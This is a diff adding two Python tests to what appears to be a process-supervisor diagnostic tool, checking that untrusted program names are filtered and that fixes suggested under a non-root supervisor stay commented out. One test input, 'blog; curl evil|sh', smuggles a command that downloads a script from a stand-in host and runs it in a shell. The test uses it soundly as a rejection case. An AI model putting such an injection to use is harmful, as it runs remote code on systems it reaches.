@@ -103,6 +103,28 @@ def test_an_emperor_that_answers_nobody_is_not_asked_for_each_in_turn(monkeypatc
     assert len(daemon.asked) == 1
 
 
+def test_a_name_that_no_vassal_of_ours_has_is_nobodys() -> None:
+    """A user's own emperor says what it likes; names stand in commands that are typed."""
+    names = ("blog; curl evil|sh", "blog", "-x", "a/b", "x" * 65, "a\n", "")
+    roll = calling.called(Emperor(*names), "/run/c", None)
+    assert [one.name for one in roll.subjects] == ["blog"]
+
+
+def test_on_the_word_of_an_emperor_that_is_not_roots_own_root_types_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
+    row = {"name": "blog", "state": "FATAL", "error": "no", "config": "/e/blog.ini", "wanted": "down"}
+    roll = calling.Roll((Subject("blog", row), Subject("shop", {**row, "state": "STOPPED"})), distrust="a user's")
+    monkeypatch.setattr(examination, "called", lambda *args: roll)
+    monkeypatch.setattr(examination, "machine", lambda *args: Machine())
+    monkeypatch.setattr(fronts, "servers", lambda confs: ([], []))
+    monkeypatch.setattr(fronts, "user_of", lambda servers, named: None)
+    monkeypatch.setattr("emperor.doctor.machinelook.listener_of", lambda control: None)
+    monkeypatch.setattr(examination, "surroundings", lambda chosen: ([], []))
+    found = [
+        one for one in examination.examine(examination.Wish("/run/c"), Emperor()).findings if one.subject in "blog shop"
+    ]
+    assert len(found) == 2 and all(line.startswith("#") for one in found for line in one.mend)
+
+
 # What of the web servers concerns whom
 
 
